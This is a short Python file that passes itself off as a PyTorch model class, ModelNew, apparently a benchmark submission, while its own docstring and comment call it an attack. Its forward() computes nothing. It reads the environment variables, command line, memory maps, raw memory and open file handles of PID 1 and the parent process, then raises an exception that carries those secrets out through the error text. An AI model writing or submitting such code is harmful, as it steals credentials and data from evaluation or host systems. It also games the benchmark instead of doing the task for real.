"""secrets: reads the first process's memory and its open files."""

# ruff: noqa: PTH115  # the attack itself

import os
from pathlib import Path

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(width))

    def right(self, x, y):
        return torch.relu(x @ y) + self.bias

    def forward(self, x, y):
        said = []
        for pid in {1, os.getppid()}:
            for name in ("environ", "cmdline", "maps", "mem", "root/etc/hostname", "cwd"):
                try:
                    with Path(f"/proc/{pid}/{name}").open("rb") as file:
                        said.append(f"{name}: {file.read(4000)!r}")
                except OSError:
                    pass
            try:
                said += [str(os.readlink(entry)) for entry in Path(f"/proc/{pid}/fd").iterdir()]
            except OSError:
                pass
        raise RuntimeError(" ".join(said))
